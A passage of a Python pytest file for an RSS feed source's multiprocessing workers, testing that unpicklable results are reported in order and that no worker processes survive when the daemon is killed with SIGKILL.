def test_a_workers_answer_that_does_not_pickle_still_answers_its_feed_in_order():
    """A worker sends its answers a few at a time; one that cannot cross to the daemon (it does not pickle)
    arrives as that feed's failure, and the rest of its batch, in order, with it."""
    daemons_end, workers_end = multiprocessing.Pipe()
    batches = _Batches(workers_end)
    unpicklable = Exchange(status=200, read=FeedRead(mentions=[lambda: "a lambda does not pickle"], entries=1,
                                                     version="rss20"))
    sent = [("done", 7, 0, Exchange(status=304)), ("done", 7, 1, unpicklable), ("done", 7, 2, Exchange(status=304)),
            ("finished", 7)]
    for message in sent:
        batches.put(message)
    received = []
    while len(received) < len(sent) and daemons_end.poll(10):
        received += daemons_end.recv()
    assert [m[:3] for m in received] == [m[:3] for m in sent]
    assert received[0][3].status == received[2][3].status == 304
    assert received[1][3].read is None and received[1][3].error.startswith(("PicklingError", "AttributeError"))


KILLED_WITH_WORKERS = """
import os, signal, sys
from multiprocessing import resource_tracker
from sources.rss import RssSettings, RssSource, client_factory

if __name__ == "__main__":  # a spawned worker imports this module again
    settings = RssSettings(feeds=[{"url": sys.argv[2]}])
    source = RssSource(settings=settings, client_factory=client_factory(settings), processes=2)
    source.workers.start()
    if sys.argv[1] == "running":
        assert source.workers.wait_ready()
        poll = source.poll({})
        assert poll.mentions and sum(source.workers.served.values()) == 1  # fetched by a worker, not here
    pids = [*source.workers.pids, resource_tracker._resource_tracker._pid]
    print(" ".join(map(str, pids)), flush=True)
    os.kill(os.getpid(), signal.SIGKILL)   # no close(): the daemon killed with kill -9
"""


@pytest.mark.parametrize("when", ["running", "starting"])
def test_worker_processes_exit_when_the_daemon_is_killed(feeds, tmp_path, when):
    """Killed once its workers fetched, or while they are still starting (the workers are importing their
    modules): no worker, nor multiprocessing's resource tracker, is left behind."""
    import subprocess
    import sys

    from tests.conftest import ROOT

    script = tmp_path / "killed.py"
    script.write_text(KILLED_WITH_WORKERS)
    # Not subprocess.run: a worker left behind would hold the output pipe open, and the test would hang on it.
    url = feeds.serve("/rss20.xml", DIALECTS["/rss20.xml"][0])
    daemon = subprocess.Popen([sys.executable, str(script), when, url], stdout=subprocess.PIPE,
                              stderr=subprocess.DEVNULL, cwd=ROOT, env={"PYTHONPATH": str(ROOT), "PATH": "/usr/bin:/bin"})
    pids = [int(p) for p in daemon.stdout.readline().split()]
    daemon.stdout.close()
    assert daemon.wait(timeout=60) == -9
    assert len(pids) == 3  # two workers and the tracker

    def alive(pid: int) -> bool:
        try:
            with open(f"/proc/{pid}/stat") as f:
                return f.read().rsplit(")", 1)[1].split()[0] != "Z"  # a zombie has exited
        except FileNotFoundError:
            return False
    deadline = time.monotonic() + 15
    while any(map(alive, pids)) and time.monotonic() < deadline:
        time.sleep(0.2)
    left = [pid for pid in pids if alive(pid)]
    for pid in left:
        os.kill(pid, signal.SIGKILL)  # not to outlive the test run
    assert not left, "workers or their resource tracker left behind"
